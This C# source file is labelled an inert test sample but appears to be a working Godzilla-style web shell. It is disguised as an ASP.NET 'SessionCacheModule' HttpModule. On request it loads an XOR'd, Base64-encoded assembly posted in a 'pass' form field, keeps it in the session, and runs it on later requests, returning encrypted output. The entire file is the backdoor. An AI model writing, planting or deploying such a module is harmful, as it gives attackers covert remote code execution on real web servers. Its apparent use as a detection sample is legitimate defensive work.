// Test sample (inert): a Godzilla-style loader in an App_Code HttpModule. The first request posts
// an assembly (XOR'd, Base64) that is loaded and kept in the session; later requests run it.
using System;
using System.Reflection;
using System.Web;
using System.Web.SessionState;

public class SessionCacheModule : IHttpModule
{
    private const string Key = "3c6e0b8a9c15224a";
    private const string Pass = "pass";

    public void Init(HttpApplication app)
    {
        app.PostAcquireRequestState += OnPostAcquireRequestState;
    }

    private static byte[] Xor(byte[] data, bool encrypt)
    {
        byte[] k = System.Text.Encoding.Default.GetBytes(Key);
        for (int i = 0; i < data.Length; i++)
        {
            data[i] = (byte)(data[i] ^ k[(i + 1) & 15]);
        }
        return data;
    }

    private void OnPostAcquireRequestState(object sender, EventArgs e)
    {
        HttpContext ctx = ((HttpApplication)sender).Context;
        if (ctx.Session == null || ctx.Request.Form[Pass] == null)
        {
            return;
        }
        byte[] data = Xor(Convert.FromBase64String(ctx.Request.Form[Pass]), false);
        if (ctx.Session["payload"] == null)
        {
            ctx.Session["payload"] = (Assembly)typeof(Assembly).GetMethod("Load", new Type[] { typeof(byte[]) }).Invoke(null, new object[] { data });
        }
        else
        {
            object o = ((Assembly)ctx.Session["payload"]).CreateInstance("LY");
            System.IO.MemoryStream outStream = new System.IO.MemoryStream();
            o.Equals(ctx);
            o.Equals(outStream);
            o.Equals(data);
            o.ToString();
            byte[] r = outStream.ToArray();
            ctx.Response.Write(Convert.ToBase64String(Xor(r, true)));
            ctx.Response.End();
        }
    }

    public void Dispose()
    {
    }
}
